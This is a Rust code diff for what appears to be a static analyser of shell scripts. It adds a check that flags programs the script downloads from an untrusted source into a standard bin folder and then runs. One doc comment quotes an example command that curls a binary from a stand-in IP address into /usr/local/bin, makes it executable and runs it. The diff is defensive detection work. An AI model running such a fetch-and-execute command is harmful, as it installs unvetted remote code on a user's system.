@@ -62,7 +62,9 @@ impl<'a> Analysis<'a> {
             return None;
         }
         let set = settings.iter().rev().find(|(name, _)| *name == "PATH").map(|(_, val)| *val);
-        let path = set.or_else(|| self.state.var("PATH").map(|var| var.val))?;
+        let Some(path) = set.or_else(|| self.state.var("PATH").map(|var| var.val)) else {
+            return self.fetched_into_the_search_path(program);
+        };
         self.folders_of(path).into_iter().find_map(|folder| {
             let path = self.within(folder, program);
             let name = self.overlay(path)?;
@@ -70,6 +72,20 @@ impl<'a> Analysis<'a> {
             let cwd = self.state.cwd.lit().unwrap_or("");
             let leads = || path.lit().is_some_and(|path| paths::absolute(self.bump, cwd, path) != name);
             (self.state.file(name).is_some() || self.state.has_links() && leads()).then_some(path)
+        })
+    }
+
+    /// The program of that name that the script fetched from nobody in particular into a folder where programs are looked
+    /// for: `curl -o /usr/local/bin/x http://203.0.113.9/x && chmod +x /usr/local/bin/x && x`.
+    fn fetched_into_the_search_path(&self, program: &str) -> Option<Val<'a>> {
+        const FOLDERS: [&str; 4] = ["/usr/local/bin", "/usr/bin", "~/.local/bin", "~/bin"];
+        if program.is_empty() || program.contains('/') {
+            return None;
+        }
+        FOLDERS.iter().find_map(|folder| {
+            let path = self.tilde_expanded(self.bump.alloc_str(&format!("{folder}/{program}")));
+            let file = self.state.file(self.overlay(Val::Lit(path))?)?;
+            self.from_nobody(&file.data).then_some(Val::Lit(path))
         })
     }
 
